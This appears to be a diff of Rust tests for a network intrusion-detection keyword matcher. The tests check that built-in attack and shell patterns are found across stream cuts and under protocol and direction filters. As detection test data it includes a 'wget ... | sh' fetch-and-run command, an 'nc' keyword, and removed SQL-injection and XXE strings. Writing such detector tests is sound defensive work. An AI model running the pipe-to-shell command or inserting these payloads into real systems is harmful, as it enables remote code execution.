@@ -1,7 +1,7 @@
 //! Keywords are found wherever they are cut, and nothing else is.
 
 use super::*;
-use crate::keyword::builtin;
+use crate::keyword::{BUILTIN, Where, builtin};
 use anomalyzer_wire::Addr;
 use proptest::prelude::*;
 
@@ -13,7 +13,7 @@ fn context(offset: u64) -> ScanContext {
         dst_port: 80,
         proto: 6,
     };
-    ScanContext { app: AppProto::Http, tuple, to_server: true, offset }
+    ScanContext { app: AppProto::Http, tuple, to_server: true, offset, place: Place::Stream }
 }
 
 fn matcher(patterns: &str) -> Matcher {
@@ -69,11 +69,12 @@ fn cut_everywhere(matcher: &Matcher, word: &[u8], name: &str, offset: u64) {
 
 #[test]
 fn every_builtin_literal_is_found_wherever_it_is_cut() {
-    for name in ["web-attacks", "shells", "words"] {
-        let list = builtin(name).unwrap().unwrap();
-        let mut list = list;
+    for known in BUILTIN {
+        let mut list = builtin(known.name).unwrap().unwrap();
         for pattern in &mut list.patterns {
             pattern.direction = Direction::Both;
+            pattern.place = Where::Stream;
+            pattern.app = None;
         }
         let matcher = Matcher::new(std::slice::from_ref(&list)).unwrap();
         for pattern in &list.patterns {
@@ -86,10 +87,7 @@ fn every_builtin_literal_is_found_wherever_it_is_cut() {
 
 #[test]
 fn expressions_are_found_wherever_they_are_cut() {
-    let list = builtin("web-attacks").unwrap().unwrap();
-    let matcher = Matcher::new(&[list, builtin("shells").unwrap().unwrap()]).unwrap();
-    cut_everywhere(&matcher, b"union/*x*/all/**/select", "sql-union-comment-select", 6);
-    cut_everywhere(&matcher, b"<!ENTITY x SYSTEM \"file:", "xxe", 7);
+    let matcher = Matcher::new(&[builtin("shells").unwrap().unwrap()]).unwrap();
     cut_everywhere(&matcher, b"wget http://x.org/a.sh -O- | sh;", "wget-pipe-sh", 8);
     let behind = self::matcher(&pattern("exe", "regex = '[a-z]{3,8}\\.exe=[0-9]'"));
     cut_everywhere(&behind, b"malware.exe=1", "exe", 11);
@@ -141,6 +139,9 @@ fn ports_protocols_applications_and_directions_narrow() {
         ("protocol = 'tcp'", true, 1),
         ("protocol = 'udp'", true, 0),
         ("app = 'http'", true, 1),
+        ("app = 'http'\nwhere = 'stream'\ndirection = 'to-server'", true, 1),
+        // Sought in requests, which a datagram is not.
+        ("app = 'http'\ndirection = 'to-server'", true, 0),
         ("app = 'dns'", true, 0),
         ("direction = 'to-server'", true, 1),
         ("direction = 'to-server'", false, 0),
@@ -148,6 +149,48 @@ fn ports_protocols_applications_and_directions_narrow() {
         ("direction = 'to-client'", true, 0),
     ] {
         assert_eq!(hits(&narrow(rest), to_server), expected, "{rest} {to_server}");
+    }
+}
+
+#[test]
+fn a_scan_goes_on_with_other_lists() {
+    let old = matcher(
+        &[pattern("a", "text = 'first-keyword'"), pattern("nc", "text = 'nc'\nwhole_word = true")]
+            .concat(),
+    );
+    let new = matcher(
+        &[
+            pattern("b", "text = 'second-keyword'"),
+            pattern("a", "text = 'first-keyword'"),
+            pattern("nc", "text = 'nc'\nwhole_word = true"),
+        ]
+        .concat(),
+    );
+    let text = b".. first-keyword nc second-keyword nc";
+    for cut in 0..text.len() {
+        let (head, tail) = text.split_at(cut);
+        let (mut state, mut hits) = (ScanState::default(), Vec::new());
+        old.scan(&mut state, head, &context(0), &mut hits);
+        let name = |m: &Matcher, hit: RawHit| {
+            m.describe(hit, FlowId(1), context(0).tuple, true).pattern.to_string()
+        };
+        let mut found: Vec<String> = hits.drain(..).map(|hit| name(&old, hit)).collect();
+        new.resume_scan(&mut state, &context(cut as u64));
+        new.scan(&mut state, tail, &context(cut as u64), &mut hits);
+        let mut last = Vec::new();
+        new.finish(&mut state, &context(text.len() as u64), &mut last);
+        hits.append(&mut last);
+        found.extend(hits.drain(..).map(|hit| name(&new, hit)));
+        found.sort();
+        // The new one too, unless it began more than three bytes before the change.
+        let begun = (21..33).contains(&cut);
+        let known = found.iter().filter(|n| *n != "b").collect::<Vec<_>>();
+        let words = known.iter().filter(|n| **n == "nc").count();
+        assert!(
+            (1..=2).contains(&words) && known[0] == "a" && known.len() == words + 1,
+            "{cut}: {found:?}"
+        );
+        assert!(found.contains(&"b".to_owned()) || begun || cut > 20, "{cut}: {found:?}");
     }
 }
 
